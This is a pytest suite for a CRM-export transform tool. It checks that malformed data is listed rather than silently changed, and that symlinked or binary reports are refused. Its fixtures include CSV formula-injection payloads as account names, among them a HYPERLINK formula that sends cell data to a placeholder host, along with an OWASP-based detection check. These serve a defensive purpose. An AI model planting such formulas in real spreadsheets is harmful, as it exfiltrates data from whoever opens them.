"""Bad input is read exactly or listed in data_quality.csv, never changed silently.

Hand-made exports, each value's fate computed by hand, go through `hcportal transform` as a user
runs it; data_quality.csv, targets.csv and meta.json are read back as files.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
from pathlib import Path

import pytest

from tests.conftest import run_cli

ROOT = Path(__file__).resolve().parent.parent
AS_OF = "2026-11-23"
LONG = "Notes " + "x" * 200_000  # over the csv module's default field limit (131,072)
ACTIVITY_ROWS = 15_016


# The real CLI in a process of its own for a test alone (pytest.ini's "slow"): these run in make
# test; the fast loop keeps the shared transform below and the refusals of a linked or binary report.
CLI_OF_ITS_OWN = pytest.mark.slow


def hcportal(*args: str, cwd: Path, env: dict | None = None) -> subprocess.CompletedProcess:
    return run_cli(*args, cwd=cwd, env=env)


def line(*cells: str) -> str:
    """One CSV record, quoted as a CRM quotes it."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(cells)
    return out.getvalue()


ACCOUNTS_HEADER = line("Owner", "Account", "GEO", "Region", "Tier", "Region")
# (text, encoding) per line; line 3 is Windows-1252 in a UTF-8 file, line 4 holds a NUL.
ACCOUNTS = [
    (line("Ann Lee", "Zoë Café", "EMEA", "North", "Gold", "South"), "utf-8"),
    (line("Bob Roe", "Müller GmbH", "EMEA", "Central", "Silver", "East"), "cp1252"),
    (line("Cy Dee", "Nul\x00 Works", "AMS", "West", "Gold", "West"), "utf-8"),
    (line("Di Fox", '=HYPERLINK("http://x.example/?"&A1)', "AMS", "East", "Gold", "x"), "utf-8"),
    (line("Ed Gun", "@SUM(A1)", "AMS", "East", "Gold", "x"), "utf-8"),
    (line("Fa Hu", "\t=1+1", "AMS", "East", "Gold", "x"), "utf-8"),
    (line("Gi Ivy", "+Plus Co", "AMS", "East", "Gold", "x"), "utf-8"),
    (line("Ha Jo", "-Minus Co", "AMS", "East", "Gold", "x"), "utf-8"),
    (line("Ik Ko", "Åsa Öst AB", "EMEA", "North", "Gold", "x"), "utf-8"),
]
TERM = ("2026-10-01", "2027-10-01")  # onboarding due 2026-12-30: pending on the as-of date
CONTRACTS = [
    ("Zoë Café", "Core", *TERM, "$1,000.00"),  # line 2: 1000
    ("Müller GmbH", "Core", *TERM, "€1.234,56"),  # 3: in EUR, no rate: listed, counted as 0
    ("Nul Works", "Core", *TERM, "1,2,3"),  # 4: misplaced separators: listed, counted as 0
    ('=HYPERLINK("http://x.example/?"&A1)', "Core", *TERM, "2000"),  # 5
    ("@SUM(A1)", "Core", *TERM, "3000"),  # 6
    ("=1+1", "Core", *TERM, "4000"),  # 7
    ("+Plus Co", "Core", *TERM, "5000"),  # 8
    ("-Minus Co", "Core", *TERM, "6000"),  # 9
    ("Åsa Öst AB", "Core", "2024-02-30", "2027-10-01", "7000"),  # 10: no 30 February: dropped
    ("Åsa Öst AB", "Core", *TERM, "USD 8,000"),  # 11: 8000
]


def activities() -> bytes:
    """15,016 records; a field spanning two lines at record 50 (the exact parser reads the file),
    a 200,000-character field at record 101, an impossible timestamp and a revenue in pounds."""
    out = [line("Name", "Account", "Opportunity", "Subject", "Revenue", "Timestamp", "Attachment")]
    for i in range(1, ACTIVITY_ROWS + 1):
        subject, stamp, revenue = "Call", "2026-09-01 10:00", ""
        if i == 50:
            subject = "Call\nsecond line"
        elif i == 101:
            subject = LONG
        elif i == 200:
            stamp = "2023-02-29 10:00"
        elif i == 300:
            revenue = "£500"
        out.append(line("Ann Lee", "Zoë Café", "", subject, revenue, stamp, "N"))
    return "".join(out).encode("utf-8")


def write_raw(raw: Path) -> Path:
    raw.mkdir(parents=True)
    accounts = ACCOUNTS_HEADER.encode() + b"".join(t.encode(enc) for t, enc in ACCOUNTS)
    (raw / "accounts.csv").write_bytes(accounts)
    header = line("Account", "Product", "Start Date", "End Date", "Amount")
    (raw / "contracts.csv").write_text(header + "".join(line(*r) for r in CONTRACTS), "utf-8")
    (raw / "activities.csv").write_bytes(activities())
    return raw


def rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text("utf-8"), newline="")))


@pytest.fixture(scope="module")
def transformed(tmp_path_factory) -> Path:
    work = tmp_path_factory.mktemp("bad")
    raw = write_raw(work / "raw")
    proc = hcportal("transform", "--raw", str(raw), "--out", "data", "--as-of", AS_OF, cwd=work)
    assert proc.returncode == 0, proc.stderr
    return work / "data"


def dq(data: Path, file: str) -> dict[int, tuple[str, str, str]]:
    return {
        int(r["line"]): (r["column"], r["value"], r["reason"])
        for r in rows(data / "data_quality.csv")
        if r["file"] == file
    }


def amounts(data: Path) -> dict[str, str]:
    return {r["account"]: r["amount"] for r in rows(data / "targets.csv")}


@pytest.mark.reliability(
    "an impossible calendar date (2024-02-30) in a contract",
    "listed with its line; the contract is not used (never read as 1 March)",
)
def test_an_impossible_date_is_listed_not_rolled_over(transformed):
    assert dq(transformed, "contracts.csv")[10] == (
        "start", "2024-02-30", "impossible calendar date in start (no such day)"
    )  # fmt: skip
    assert dq(transformed, "activities.csv")[202] == (
        "timestamp", "2023-02-29 10:00", "impossible calendar date in timestamp (no such day)"
    )  # fmt: skip
    assert amounts(transformed)["Åsa Öst AB"] == "8000"  # only the contract that can be read


@pytest.mark.reliability(
    "an amount with misplaced thousands separators (1,2,3)",
    "listed; counted as 0, never read as 123",
)
def test_misplaced_separators_are_listed_not_squeezed(transformed):
    column, value, reason = dq(transformed, "contracts.csv")[4]
    assert (column, value) == ("amount", "1,2,3")
    assert reason.startswith("misplaced separators in an amount") and "counted as 0" in reason
    assert amounts(transformed)["Nul Works"] == "0"
    assert amounts(transformed)["Zoë Café"] == "1000"


@pytest.mark.reliability(
    "an amount in another currency (€1.234,56 in a dollar book, £500 revenue) and no rate",
    "listed; not counted (two currencies are never summed as one)",
)
def test_an_amount_in_another_currency_is_listed_not_summed(transformed):
    assert dq(transformed, "contracts.csv")[3] == (
        "amount", "€1.234,56", "amount in EUR, not USD, and no rate for EUR (counted as 0)"
    )  # fmt: skip
    assert dq(transformed, "activities.csv")[302] == (
        "revenue", "£500", "amount in GBP, not USD, and no rate for GBP (revenue not counted)"
    )  # fmt: skip
    assert amounts(transformed)["Müller GmbH"] == "0"
    meta = json.loads((transformed / "meta.json").read_text())
    assert meta["data_quality"]["money"] == {"currency": "USD"}


@pytest.mark.reliability(
    "an amount in another currency with a configured rate table",
    "converted at the rate into the book's currency; meta.json counts the conversions",
)
@CLI_OF_ITS_OWN
def test_a_rate_table_converts_other_currencies(tmp_path):
    raw = write_raw(tmp_path / "raw")
    (tmp_path / "eur.toml").write_text("[transform.parsing]\nrates = { EUR = 1.08, GBP = 1.25 }\n")
    proc = hcportal(
        "transform", "--raw", str(raw), "--out", "data", "--as-of", AS_OF,
        "--config", "eur.toml", cwd=tmp_path,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    data = tmp_path / "data"
    assert amounts(data)["Müller GmbH"] == "1333.32"  # 1,234.56 x 1.08
    assert 3 not in dq(data, "contracts.csv") and 302 not in dq(data, "activities.csv")
    money = json.loads((data / "meta.json").read_text())["data_quality"]["money"]
    assert money == {"currency": "USD", "converted": {"EUR": 1, "GBP": 1}}


@pytest.mark.reliability(
    "a currency column that names another currency than the book's, or than the amount's own symbol",
    "converted with a rate, else listed; a contradiction is listed",
)
@CLI_OF_ITS_OWN
def test_a_currency_column_is_read(tmp_path):
    raw = tmp_path / "raw"
    write_raw(raw)
    header = line("Account", "Product", "Start Date", "End Date", "Amount", "Currency")
    body = [
        line("Zoë Café", "Core", *TERM, "1000", "usd"),  # 2: 1000
        line("Müller GmbH", "Core", *TERM, "1000", "EUR"),  # 3: 1000 EUR -> 1100 USD
        line("Nul Works", "Core", *TERM, "2000", "CHF"),  # 4: no rate: listed
        line("@SUM(A1)", "Core", *TERM, "$500", "EUR"),  # 5: says both: listed
    ]
    (raw / "contracts.csv").write_text(header + "".join(body), "utf-8")
    (tmp_path / "c.toml").write_text(
        '[transform.columns.contracts]\ncurrency = "Currency"\n'
        "[transform.parsing]\nrates = { EUR = 1.1 }\n"
    )
    proc = hcportal(
        "transform", "--raw", str(raw), "--out", "data", "--as-of", AS_OF,
        "--config", "c.toml", cwd=tmp_path,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    data = tmp_path / "data"
    got = amounts(data)
    assert (got["Zoë Café"], got["Müller GmbH"], got["Nul Works"], got["'@SUM(A1)"]) == (
        "1000", "1100", "0", "0"
    )  # fmt: skip
    found = dq(data, "contracts.csv")
    assert found[4] == (
        "amount",
        "2000",
        "amount in CHF, not USD, and no rate for CHF (counted as 0)",
    )
    assert found[5][2].startswith("the amount names another currency than the currency column")


@pytest.mark.reliability(
    "one Windows-1252 line in a UTF-8 export",
    "each line read in its own encoding (no mojibake); the odd line listed",
)
def test_a_line_in_another_encoding_is_read_in_its_own(transformed):
    names = set(amounts(transformed))
    assert {"Zoë Café", "Müller GmbH", "Åsa Öst AB"} <= names
    assert not any("Ã" in n for n in names)
    _, value, reason = dq(transformed, "accounts.csv")[3]
    assert "Müller GmbH" in value
    assert reason == "a line in Windows-1252 in a UTF-8 file (read as Windows-1252)"


@pytest.mark.reliability(
    "a NUL byte inside an account name", "removed, and listed with the name shown as \\x00"
)
def test_control_characters_are_removed_and_listed(transformed):
    assert dq(transformed, "accounts.csv")[4] == (
        "account", "Nul\\x00 Works", "control character(s) removed"
    )  # fmt: skip
    assert "Nul Works" in amounts(transformed)  # matched with the contract's clean spelling
    text = (transformed / "targets.csv").read_text("utf-8")
    assert "\x00" not in text


@pytest.mark.reliability(
    "a duplicated header (Region twice)", "listed, saying which column is read (the first)"
)
def test_a_duplicate_header_is_listed_and_the_first_column_read(transformed):
    column, _, reason = dq(transformed, "accounts.csv")[1]
    assert column == "region"
    assert reason == "duplicate header: column 4 is read, column(s) 6 of the same name are ignored"
    regions = {r["account"]: r["region"] for r in rows(transformed / "targets.csv")}
    assert regions["Zoë Café"] == "North"  # column 4, not column 6's "South"


@pytest.mark.reliability(
    "a 200,000-character field at record 101 of 15,016 (a standalone transform)",
    "read; every record counted in meta.json's rows read",
)
def test_a_long_field_is_read_and_every_record_counted(transformed):
    meta = json.loads((transformed / "meta.json").read_text())
    assert meta["data_quality"]["rows_read"]["activities.csv"] == ACTIVITY_ROWS
    assert meta["counts"]["activities"] == ACTIVITY_ROWS - 1  # the impossible timestamp
    reasons = {r["reason"] for r in rows(transformed / "data_quality.csv")}
    assert not any("unreadable from here on" in r for r in reasons)


def risky(text: str) -> bool:
    """What a spreadsheet would run as a formula, after trimming (OWASP's CSV injection list)."""
    return text[:1] in ("\t", "\r") or text.lstrip()[:1] in ("=", "+", "-", "@")


def spreadsheet(path: Path):
    """The CSV file as a spreadsheet opens it: each cell's text in an openpyxl sheet (openpyxl,
    like Excel, takes a text starting with = as a formula)."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for record in csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")):
        sheet.append(record)
    return sheet


def assert_safe(path: Path) -> list[str]:
    cells = [c for row in spreadsheet(path).iter_rows() for c in row if c.value is not None]
    assert not [c.value for c in cells if c.data_type == "f"], path.name
    texts = [str(c.value) for c in cells]
    assert not [t for t in texts if risky(t)], path.name
    return texts


@pytest.mark.reliability(
    "account names that are spreadsheet formulas (=HYPERLINK, @SUM, +, -, tab then =) in the transform's CSV files",
    "each cell prefixed with ' (checked after trimming); opened with openpyxl, no formula",
)
def test_the_transform_s_csv_files_hold_no_formula(transformed):
    for name in ("targets", "candidates", "data_quality", "efficacy", "influenced_pipeline"):
        if (transformed / f"{name}.csv").is_file():
            assert_safe(transformed / f"{name}.csv")
    accounts = set(assert_safe(transformed / "targets.csv"))
    assert {"'=HYPERLINK(\"http://x.example/?\"&A1)", "'@SUM(A1)", "'=1+1", "'+Plus Co",
            "'-Minus Co"} <= accounts  # fmt: skip


def test_programs_reading_the_tables_get_the_exact_text_back(transformed):
    from hcportal import transform

    names = set(transform.read(transformed)["targets"]["account"])
    assert {'=HYPERLINK("http://x.example/?"&A1)', "@SUM(A1)", "=1+1", "-Minus Co"} <= names


@pytest.mark.reliability(
    "a report file that is a symbolic link to a file outside the raw folder",
    "refused in one line; the file is not read, its first line never echoed",
)
def test_a_report_linked_out_of_the_raw_folder_is_refused(tmp_path):
    raw = write_raw(tmp_path / "raw")
    outside = tmp_path / "private.csv"
    outside.write_text("TOP-SECRET-FIRST-LINE,x\n1,2\n")
    (raw / "contracts.csv").unlink()
    (raw / "contracts.csv").symlink_to(outside)
    proc = hcportal("transform", "--raw", str(raw), "--out", "data", "--as-of", AS_OF, cwd=tmp_path)
    assert proc.returncode == 1
    assert "contracts.csv" in proc.stderr and "symbolic link to a file outside" in proc.stderr
    assert "TOP-SECRET" not in proc.stderr + proc.stdout and "Traceback" not in proc.stderr
    assert not (tmp_path / "data").exists()


@pytest.mark.reliability(
    "a binary file where a report should be", "one printable line, cut to a sensible length"
)
def test_a_binary_report_is_one_printable_line(tmp_path):
    raw = write_raw(tmp_path / "raw")
    junk = bytes(range(256)) * 200
    (raw / "accounts.csv").write_bytes(b"\x01\x1b[31m," + junk.replace(b"\n", b","))
    proc = hcportal("transform", "--raw", str(raw), "--out", "data", "--as-of", AS_OF, cwd=tmp_path)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    [message] = [ln for ln in proc.stderr.splitlines() if ln.startswith("hcportal: error:")]
    assert message.isprintable() and len(message) < 800
    assert "\\x1b" in message  # the escape character shown, not sent to the terminal


@pytest.mark.reliability(
    "a Windows-1252 line in a UTF-8 export delivered to the drop folder (harvest, then transform)",
    "the harvest decodes each line in its own encoding and the manifest names the line; the transform lists it",
)
@CLI_OF_ITS_OWN
def test_the_harvest_reads_a_mixed_file_line_by_line_and_the_transform_lists_it(tmp_path):
    drop = write_raw(tmp_path / "drop")
    proc = hcportal("harvest", "--from-folder", str(drop), "--out", "raw", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    manifest = json.loads((tmp_path / "raw" / "latest" / "manifest.json").read_text())
    [accounts] = [r for r in manifest["reports"] if r["name"] == "accounts"]
    assert (accounts["encoding"], accounts["other_encoding_lines"]) == ("utf-8", [3])
    stored = (tmp_path / "raw" / "latest" / "accounts.csv").read_text("utf-8")
    assert "Müller GmbH" in stored and "Zoë Café" in stored and "Ã" not in stored
    proc = hcportal("transform", "--raw", "raw", "--out", "data", "--as-of", AS_OF, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    _, value, reason = dq(tmp_path / "data", "accounts.csv")[3]
    assert "Müller GmbH" in value
    assert reason == "a line in Windows-1252 in a UTF-8 file (read as Windows-1252 by the harvest)"


@pytest.mark.reliability(
    "a file in the drop folder that is a symbolic link to a file elsewhere",
    "refused with the file named; nothing is copied or quoted from its target",
)
@CLI_OF_ITS_OWN
def test_the_drop_folder_refuses_a_link_out_of_it(tmp_path):
    drop = write_raw(tmp_path / "drop")
    outside = tmp_path / "elsewhere.csv"
    outside.write_bytes((drop / "accounts.csv").read_bytes().replace(b"Ann Lee", b"SECRET-OWNER"))
    (drop / "accounts.csv").unlink()
    (drop / "accounts.csv").symlink_to(outside)
    proc = hcportal("harvest", "--from-folder", str(drop), "--out", "raw", cwd=tmp_path)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert "accounts.csv is a symbolic link to a file outside the drop folder" in proc.stderr
    assert "SECRET-OWNER" not in proc.stderr + proc.stdout
    assert not list((tmp_path / "raw").rglob("accounts.csv"))
